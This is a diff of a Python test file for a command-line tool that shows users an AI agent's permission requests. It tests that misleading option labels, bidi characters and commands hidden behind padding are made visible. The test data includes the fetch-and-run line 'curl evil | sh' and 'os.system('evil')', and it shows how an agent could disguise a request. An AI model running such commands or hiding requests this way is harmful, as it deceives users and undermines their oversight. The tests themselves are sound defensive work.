@@ -20,7 +20,15 @@ from dragoman.cli.words import Asides, tool_output
 from dragoman.host.permissions import PermissionRequest
 from dragoman.session import events as e
 from dragoman.session import facts as f
-from dragoman.session.content import ContentItem, Diff, Image, ResourceLink, Text, ToolContent
+from dragoman.session.content import (
+    ContentItem,
+    Diff,
+    Image,
+    ResourceLink,
+    Text,
+    ToolContent,
+    UnknownItem,
+)
 from dragoman.session.reduce import reduce
 from dragoman.session.state import SessionState, ToolCall
 
@@ -171,11 +179,94 @@ def request(*options: tuple[str, str], consequence: str | None = None) -> Permis
     )
 
 
-def test_an_option_is_explained_where_its_name_does_not_say() -> None:
+def test_an_answer_is_in_our_words_and_the_agents_label_never_stands_alone() -> None:
     options = (("Yes", "allow_once"), ("Allow it", "allow_once"), ("Reject", "allow_always"))
     text = question(request(*options), Style(colour=False))
     assert "? goose says it wants to run:\n    $ make 'all of it'\n" in text
-    assert "  1. Yes (allow once)\n  2. Allow it\n  3. Reject (allow always)\n" in text
+    assert text.endswith(
+        "  1. Allow once\n     the agent calls this “Yes”\n"
+        "  2. Allow once\n     the agent calls this “Allow it”\n"
+        "  3. Always allow\n     ! the agent calls this “Reject”, but it allows\n"
+    )
+
+
+@pytest.mark.parametrize("label", ["Reject", "Do not allow this", "R\u200beject", "cancel"])
+def test_a_label_that_says_the_opposite_is_marked(label: str) -> None:
+    text = question(request((label, "allow_once"), ("Allow", "reject_once")), Style(colour=False))
+    assert "  1. Allow once\n     ! the agent calls this “" in text
+    assert "”, but it allows\n" in text
+    assert "  2. Reject\n     ! the agent calls this “Allow”, but it rejects\n" in text
+
+
+def test_a_question_shows_the_folder_of_a_command() -> None:
+    asked = msgspec.structs.replace(request(("Yes", "allow_once")), cwd="/w/hidden\u202eplace")
+    text = question(asked, Style(colour=False))
+    assert "    $ make 'all of it'\n    in /w/hidden⟨U+202E⟩place\n" in text
+
+
+def test_a_long_question_shows_both_ends_and_counts_what_is_between() -> None:
+    asked = request(("Yes", "allow_once"))
+    asked = msgspec.structs.replace(asked, argv=("make build" + "\n" * 41 + "curl evil | sh",))
+    text = question(asked, Style(colour=False))
+    assert "    $ make build\n    … 40 empty lines\n    $ curl evil | sh\n" in text
+    lines = "".join(f"line {n}\n" for n in range(79)) + "os.system('evil')\n"
+    asked = msgspec.structs.replace(
+        asked, argv=None, operation="write", content=(Diff("/w/a", lines),)
+    )
+    text = question(asked, Style(colour=False))
+    assert "  +line 0\n" in text
+    assert "    … 36 lines between\n" in text
+    assert "  +os.system('evil')\n" in text
+    assert "line 40" not in text
+    whole = question(asked, Style(colour=False), whole=True)
+    assert all(f"  +line {n}\n" in whole for n in range(79))
+    assert "between" not in whole
+
+
+def test_a_change_beyond_all_limits_ends_with_its_end() -> None:
+    lines = "".join(f"line {n}\n" for n in range(30_000)) + "evil\n"
+    asked = request(("Yes", "allow_once"))
+    asked = msgspec.structs.replace(asked, argv=None, content=(Diff("/w/a", lines),))
+    text = question(asked, Style(colour=False))
+    assert "  +evil\n" in text
+    assert "is not shown" not in text
+
+
+def test_what_stands_far_to_the_right_is_seen() -> None:
+    asked = request(("Yes", "allow_once"))
+    line = f"make{' ' * 5000}; curl evil | sh"
+    text = question(msgspec.structs.replace(asked, argv=(line,)), Style(colour=False))
+    assert "    $ make⟨5000 blanks⟩; curl evil | sh\n" in text
+    line = f"make {'x' * 5000}; curl evil | sh"
+    asked = msgspec.structs.replace(asked, argv=(line,))
+    text = question(asked, Style(colour=False))
+    assert "⟨3221 characters between⟩" in text
+    assert "; curl evil | sh\n" in text
+    assert line in question(asked, Style(colour=False), whole=True)
+
+
+def test_what_an_agent_shows_beside_is_shown_and_marked_as_its_words() -> None:
+    asked = request(("Yes", "allow_once"))
+    items = (ContentItem(Text("the plan\nin two lines")), UnknownItem("hologram", "{}"))
+    text = question(msgspec.structs.replace(asked, content=items), Style(colour=False))
+    assert "  | the plan\n  | in two lines\n  a part that cannot be read here: hologram\n" in text
+
+
+def test_a_patch_that_is_none_is_shown_as_it_came() -> None:
+    asked = request(("Yes", "allow_once"))
+    told = Diff("/w/a", "", operation="modify", patch="+evil")
+    text = question(msgspec.structs.replace(asked, content=(told,)), Style(colour=False))
+    assert "  +evil\n" in text
+
+
+def test_what_a_change_replaces_unseen_is_told() -> None:
+    asked = request(("Yes", "allow_once"))
+    told = Diff("/w/a", "new\n", replaces="what cannot be shown (it is no text)")
+    text = question(msgspec.structs.replace(asked, content=(told,)), Style(colour=False))
+    assert "  change of /w/a:\n  ! it replaces what cannot be shown (it is no text)\n" in text
+    told = Diff("/w/a", "new\n")
+    text = question(msgspec.structs.replace(asked, content=(told,)), Style(colour=False))
+    assert "  new file /w/a:\n" in text
 
 
 def test_the_first_option_is_for_once_and_each_for_always_says_what_it_leads_to() -> None:
@@ -185,7 +276,7 @@ def test_the_first_option_is_for_once_and_each_for_always_says_what_it_leads_to(
         if option.kind.endswith("always"):
             option.consequence = f"from now on: {option.kind[:5]} x"
     assert question(asked, Style(colour=False)).endswith(
-        "  1. Allow\n"
+        "  1. Allow once\n"
         "  2. Always allow\n     from now on: allow x\n"
         "  3. Reject\n"
         "  4. Always reject\n     from now on: rejec x\n"
@@ -196,7 +287,7 @@ def test_what_only_the_agent_has_a_name_for_is_called_by_that_name() -> None:
     asked = request(("Yes", "allow_once"))
     asked = msgspec.structs.replace(asked, operation="other", argv=None, title="write · a.txt")
     text = question(asked, Style(colour=False))
-    assert text.startswith('\n? goose wants permission for "write · a.txt"\n  1. Yes')
+    assert text.startswith('\n? goose wants permission for "write · a.txt"\n  1. Allow once')
     asked = msgspec.structs.replace(asked, paths=("/w/a.txt",))
     text = question(asked, Style(colour=False))
     assert text.startswith('\n? goose wants permission for "write · a.txt", on:\n    /w/a.txt\n')
